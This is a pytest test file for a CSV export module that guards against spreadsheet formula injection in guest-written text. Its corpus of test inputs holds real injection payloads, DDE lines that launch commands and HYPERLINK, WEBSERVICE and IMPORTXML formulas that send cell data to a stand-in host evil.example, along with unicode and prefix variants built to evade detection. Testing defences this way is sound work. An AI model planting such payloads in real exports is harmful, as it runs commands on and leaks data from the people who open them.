"""What guests write reads back exactly, and is a formula to no program, however it separates."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.exports import spreadsheet
from conversations.exports.spreadsheet import DANGEROUS, SKIPPED, plain_text, safe_text
from tests.hostile import TEXTS

BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A2)',
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "SUM(1;2)\";\"=3",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "|", "＝", "＋", "－", "＠", "｜", "−", "\t=", "\r=", "\n=", "\x00=")
LEADS = ("", " ", "'", '"', "\ufeff", "\u200b", "\u00a0 ", "x;", "x\n", "x\r\n", "x\t", '";', "''")
CORPUS = [lead + sign + body for lead, sign, body in itertools.product(LEADS, SIGNS, BODIES)]
HARMLESS = ("", "Hola", "it's", "'quoted'", "1,5; 2", "a=b", "a-b", '"', "a\nb", "¿Qué?", "  x")
# What a program skips before it looks for a formula; a mark of quotation is none of these: it
# makes what follows a text.
_BLANKS = " \u00a0\ufeff\u200b\u200c\u200d\u2060"


def written(texts: list[str]) -> str:
    rows = [{"id": number, "text": text, "after": "end"} for number, text in enumerate(texts)]
    columns = ("id", "text", "after")
    return (spreadsheet.header(columns) + spreadsheet.lines(rows, columns)).decode()


def cells(text: str, delimiter: str) -> list[str]:
    csv.field_size_limit(10_000_000)
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for record in reader for cell in record]


def test_the_corpus_reads_back_equal():
    texts = [*CORPUS, *TEXTS, *HARMLESS]

    records = list(csv.DictReader(io.StringIO(written(texts), newline="")))

    assert len(CORPUS) > 200
    assert [plain_text(record["text"]) for record in records] == texts
    assert {record["after"] for record in records} == {"end"}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_a_program_separates_by(delimiter: str):
    text = written([*CORPUS, *TEXTS])

    formulas = [
        cell for cell in cells(text, delimiter) if cell.lstrip(_BLANKS)[:1] in tuple("=+-@")
    ]

    assert formulas == []


def test_the_corpus_would_execute_unprotected():
    """Else the test above could not fail."""
    plain = "".join(f'{number},"{text}"\r\n' for number, text in enumerate(CORPUS))

    formulas = [cell for cell in cells(plain, ",") if cell.lstrip(_BLANKS)[:1] in tuple("=+-@")]

    assert len(formulas) > 150


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str):
    assert safe_text(text) == text


@given(st.text(st.sampled_from("=+-@|'\";\t\r\n a1,\ufeff\u200b＝" + "x"), max_size=12))
def test_every_text_reads_back_equal(text: str):
    assert plain_text(safe_text(text)) == text


@given(st.text(max_size=40))
def test_protected_once_more_nothing_is_lost_either(text: str):
    once = safe_text(text)

    assert plain_text(plain_text(safe_text(once))) == text


def test_numbers_and_nothing_are_not_quoted():
    rows = [{"a": -5, "b": None, "c": "", "d": True, "e": 0.5, "f": {"k": "=1"}, "g": "-5"}]

    line = spreadsheet.lines(rows, tuple("abcdefg")).decode()

    assert line == '-5,,"",true,0.5,"{""k"":""=1""}","\'-5"\r\n'


def test_the_classes_have_no_character_in_common_but_what_ends_a_cell():
    assert not set(SKIPPED) & set(DANGEROUS) - {"-"}  # in SKIPPED it only says from … to
